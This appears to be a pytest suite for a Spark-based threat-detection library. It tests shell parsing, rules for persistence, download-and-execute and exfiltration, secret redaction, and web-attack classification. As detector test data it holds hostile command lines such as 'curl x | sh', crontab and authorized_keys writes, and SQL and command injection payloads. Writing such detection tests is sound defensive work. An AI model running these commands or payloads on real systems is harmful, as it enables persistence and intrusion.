"""Commands by segment: cutting against shlex, and cases derived by hand from the described behaviour."""
import random
import shlex

import pyarrow as pa
import pytest
from pyspark.sql import functions as F

from huntspark.functions import secrets, shell, text as X
from huntspark.operators import commands as C, rules as R

LETTERS = ["a", "b", " ", "'", '"', "\\", "x y", "\t", "é", "1", "$(", "`", "-c"]


def segments(line):
    return [(s["op"], s["argv"]) for s in shell.parts(pa.array([line]))[0].as_py()["segments"]]


def test_words_are_those_of_shlex():
    draw = random.Random(4)
    lines = ["".join(draw.choices(LETTERS, k=draw.randint(0, 14))) for _ in range(8000)]
    for line, got in zip(lines, shell.parts(pa.array(lines)).to_pylist()):
        try:
            want, whole = shlex.split(line), True
        except ValueError:
            want, whole = [line], False
        assert got["whole"] == whole and [w for s in got["segments"] for w in s["argv"]] == want, line


def test_lines_do_not_depend_on_their_neighbours(monkeypatch):
    draw = random.Random(8)
    lines = [None if draw.random() < 0.05 else "".join(draw.choices([*LETTERS, ";", "|", "&", ">", "\n", " #", "bash -c 'a;b'"], k=draw.randint(0, 9))) for _ in range(2000)]
    together = shell.parts(pa.array(lines)).to_pylist()
    assert together == [shell.parts(pa.array([x], pa.string()))[0].as_py() for x in lines]
    monkeypatch.setattr(shell, "SLICE", 50)
    assert shell.parts(pa.array(lines)).to_pylist() == together
    assert shell.parts(pa.array(["x"] + lines)).slice(1).to_pylist() == together
    assert shell.parts(pa.array([], pa.string())).to_pylist() == []


@pytest.mark.parametrize("line,want", [
    ("a;b && c|d||e & f", [("", ["a"]), (";", ["b"]), ("&&", ["c"]), ("|", ["d"]), ("||", ["e"]), ("&", ["f"])]), ("x>>/f 2>&1 &>g", [("", ["x", ">>", "/f", "2", ">&", "1", "&>", "g"])]),
    ("echo a # it's\necho b", [("", ["echo", "a"]), ("\n", ["echo", "b"])]), ("echo a#b", [("", ["echo", "a#b"])]), ("sudo /bin/sh -xc 'bash -c \"a; b\" ; c' ; d", [("", ["a"]), (";", ["b"]), (";", ["c"]), (";", ["d"])]),
    ("x && bash -c 'a | b'", [("", ["x"]), ("&&", ["a"]), ("|", ["b"])]), ("bash -c ''", [("", ["bash", "-c", ""])]), ("bash script -c", [("", ["bash", "script", "-c"])]), ("echo 'open", [("", ["echo 'open"])]), ("", []), (" ;; ", [])])
def test_segments(line, want):
    assert segments(line) == want


def test_scripts_are_opened_four_levels_deep():
    line = "end; tail"
    for _ in range(6):
        line = "sh -c " + shlex.quote(line)
    assert segments(line)[0][1][:2] == ["sh", "-c"]
    for _ in range(2):
        line = shlex.split(line)[2]
    assert segments(line) == [("", ["end"]), (";", ["tail"])]


def test_arguments_keep_their_boundaries(spark):
    df = spark.createDataFrame([(["cat", "a; crontab -e", "it's"], '["bash", "-c", "curl x | sh"]')], "argv array<string>, line string")
    got = df.select(shell.command_parts(F.col("argv"), True).segments.alias("a"), shell.command_parts(F.col("line")).segments.alias("b")).first()
    assert [s.argv for s in got.a] == [["cat", "a; crontab -e", "it's"]] and [s.argv for s in got.b] == [["curl", "x"], ["sh"]]


WRITES = ["crontab -e", "crontab f", "cp x /etc/cron.d/y", "tar -xf b.tar -C /etc/cron.d", "echo k >> ~/.ssh/authorized_keys", "echo k>>/root/.bashrc", "vi /etc/rc.local", "sed -i s/a/b/ /etc/rc.local", "find /etc/cron.d -delete",
          "sudo systemctl enable x", "install -t /etc/cron.d f", "cp --target-directory=/etc/cron.d f", "cat $(x) /etc/profile", "useradd x", "id; sh -c 'id; crontab -r'", "/usr/bin/chpasswd", "tee /etc/systemd/system/x.service"]
READS = ["crontab --list", "crontab -l", "cp /etc/passwd /bak", "cp /etc/crontab /bak/", "tar -czf b.tgz /etc/cron.d", "tar --list -f /etc/cron.d/b", "cat ~/.ssh/authorized_keys", "sed -n p /etc/rc.local", "find /etc/cron.d", "systemctl status enablex",
         "cp -t /bak /etc/profile", "ls /etc/cron.d > /tmp/x", "grep x /etc/rc.local | sort", "echo 'crontab -e'", "vi /etc/profiles"]
RUNS = ['bash -c "curl x | sh"', "curl x | sudo /bin/bash", "bash <(curl -s x)", "sh -c \"$(curl x)\"", "curl -o /tmp/a x && sh /tmp/a", "curl -o /tmp/a x; /tmp/a", "wget --output-document=a x; python3 a", "wget -O a x; php a", "curl x && echo b | sh",
        "curl x | python3.11 -", "fetch -o f u; sh -x f"]
PLAIN = ["curl x | sha256sum", "curl http://localhost/health", "curl x; echo | sh", "wget -O a x; cat a", "curl -o a x; sh b", "echo curl", "sh a; curl -o a x", "curl --output a x", "apt | shuf"]


@pytest.mark.parametrize("question,yes,no", [("writes_persistence", WRITES, READS), ("runs_download", RUNS, PLAIN), ("only_receives", ["scp -t /x", "/usr/lib/sftp-server", "scp -rt /x"], ["scp -t /x; id", "scp a b:", "scp --t a", "sudo scp -t x"]),
                                             ("stages_data", ["tar cz /var/www/html | split - /tmp/x", "tar cf /tmp/a.tgz /home/x", "tar c /home > /dev/shm/a"], ["tar c /home/a > /data/b", "tar c /homes | tee /tmp/x", "tar x; ls /home /tmp", "cp /home/a /tmp"])])
def test_questions(spark, question, yes, no):
    got = C.judged(spark.createDataFrame([(c,) for c in yes + no], "command string")).select("command", f"__cmd.{question}").collect()
    assert {r[0] for r in got if r[1]} == set(yes)


def test_places(spark):
    words = {"/etc/cron.daily/x": True, "/var/spool/cron/root": True, "/etc/crontab": True, "/etc/cronies": False, "/etc/systemd/system": True, "/etc/systemd/systemx": False, "/ROOT/.Profile": True, "profile.d": False, "x/authorized_keys2": True}
    df = spark.createDataFrame([(w,) for w in words], "w string")
    assert {r[0]: r[1] for r in df.select("w", C.persistent_place(F.col("w"))).collect()} == words


def test_exec_rules_use_segments(spark):
    schema = "command string, listener_process string, comm string"
    rows = [("crontab --list", []), ("cp /etc/passwd /bak", []), ("tar -xf b.tar -C /etc/cron.d", ["persistence_modify"]), ('bash -c "curl x | sh"', ["download_and_execute"]), ("scp -t /in", []), ("scp a b:", ["network_exfil_tools"])]
    got = R.exec_rules(spark.createDataFrame([(c, "postgres", "x") for c, _ in rows], schema))
    assert {r.command: r.matched_rules for r in got.collect()} == dict(rows)
    assert "__cmd" not in got.columns
    listed = spark.createDataFrame([(["sh", "-c", "curl x | sh"], "postgres", "x")], schema.replace("command string", "command array<string>"))
    assert R.exec_rules(listed).first().matched_rules == ["download_and_execute"]
    assert R.exec_rules(spark.createDataFrame([("x",)], "comm string")).first().severity


@pytest.mark.parametrize("port,dst,listener,download,want", [
    (443, "8.8.8.8", "", False, ("P0", ["external_c2_connect"])), (443, "8.8.8.8", "", True, ("P0", ["external_c2_connect"])), (1, "10.0.0.1", "Nginx: worker", False, ("P0", ["suspicious_port_connect"])),
    (22, "10.0.0.1", "", False, ("P1", ["suspicious_port_connect"])), (22, "8.8.8.8", "", True, ("P1", ["suspicious_port_connect", "exec_correlated_egress"]))])
def test_connections_to_an_odd_port(spark, port, dst, listener, download, want):
    df = spark.createDataFrame([(port, dst, listener, 4444)], "listener_port int, dst_ip string, listener_process string, dst_port int")
    r = R.connect_rules(df, download_nearby=F.lit(download)).first()
    assert (r.severity, r.matched_rules) == want


@pytest.mark.parametrize("port,dst,web,download,want", [(3306, "10.0.0.1", 22, False, ("P3", ["business_whitelist_connect"])), (3307, "10.0.0.1", 22, False, ("P3", [])), (3306, "8.8.8.8", 22, False, ("P2", ["non_whitelist_egress"])),
                                                        (3306, "10.0.0.1", 443, False, ("P3", ["business_whitelist_connect"])), (3306, "10.0.0.1", 22, True, ("P1", ["exec_correlated_egress"])), (3306, "8.8.8.8", 443, True, ("P0", ["external_c2_connect"]))])
def test_connections_to_other_ports(spark, port, dst, web, download, want):
    df = spark.createDataFrame([(web, dst, port)], "listener_port int, dst_ip string, dst_port int")
    r = R.connect_rules(df, download_nearby=F.lit(download)).first()
    assert (r.severity, r.matched_rules) == want


HIDE = {"run --password=a --api-key b --api_key=c -token d x": "run --password=[REDACTED] --api-key [REDACTED] --api_key=[REDACTED] -token [REDACTED] x", "SSHPASS -p pw ssh": "SSHPASS -p [REDACTED] ssh", "mysshpass -p pw": "mysshpass -p pw",
        "ssh -p 22 h": "ssh -p 22 h", "http://u:p@h/ x://u@h y://a:b/c@d": "http://u:[REDACTED]@h/ x://u@h y://a:b/c@d", "-H 'Authorization: Bearer t.k'": "-H 'Authorization: Bearer [REDACTED]'", "authorization : basic t": "authorization : basic t",
        "--password": "--password", "--passwords x": "--passwords x", "--password --token t": "--password [REDACTED] t", "well-known word-list": "well-known word-list", "--Client-Secret\tS": "--Client-Secret\t[REDACTED]", "--accesskey  k": "--accesskey  [REDACTED]",
        "İ --token t": "İ --token [REDACTED]", "": ""}


def test_secrets_are_hidden(spark):
    assert {line: secrets.hide(line) for line in HIDE} == HIDE
    df = spark.createDataFrame([(line,) for line in HIDE] + [(None,)], "line string")
    assert {r[0]: r[1] for r in df.select("line", X.redact_command(F.col("line"))).collect()} == HIDE | {None: None}
    assert secrets.hide_words(["/bin/sshpass", "-p", "x", "--Token", "y", None, "--secret"]) == ["/bin/sshpass", "-p", "[REDACTED]", "--Token", "[REDACTED]", None, "--secret"]


VECTORS = {"/a?id=1 union select 2": "sqli", "/a?id=1+UNION+ALL+SELECT+2": "sqli", "/a?id=1%20union%20select%202": "sqli", "/a?id=1/**/union/**/select 2": "sqli", "/a?u=union&v=select": None, "/a?t=information_schema.x": "sqli", "/a?u=1' or '1'='1": "sqli",
           "/a?u=x+and+1=1": "sqli", "/a?q=sand=1": None, "/a?q=salt and pepper": None, "/a?u=admin'--": "sqli", "/a?u=1--+-": "sqli", "/a?u=a--b": None, "/x?cmd=id": "rce", "/x?a=1&EXEC=z": "rce", "/x?cmdline=id": None, "/x?a=1;whoami": "rce", "/x?a=1;%20cat /etc": "rce",
           "/x?a=1;category": None, "/cmdi/x": "rce", "/plain": None, "/x?a=%zz": None, "": None, "/up/shell.php?cmd=id": "webshell"}


def test_vectors_by_parameter(spark):
    df = spark.createDataFrame([(u,) for u in VECTORS], "url string")
    want = {u: "webshell" if v == "webshell" else f"web_exploit:{v}" if v else "web_exploit" for u, v in VECTORS.items()}
    assert {r[0]: r[1] for r in df.select("url", X.web_vector(F.col("url"), ["shell.php"])).collect()} == want
    assert [(p["name"], p["value"]) for p in df.where("url = '/x?a=1&EXEC=z'").select(X.url_values(F.col("url"))).first()[0]] == [("", "/x"), ("a", "1"), ("exec", "z")]
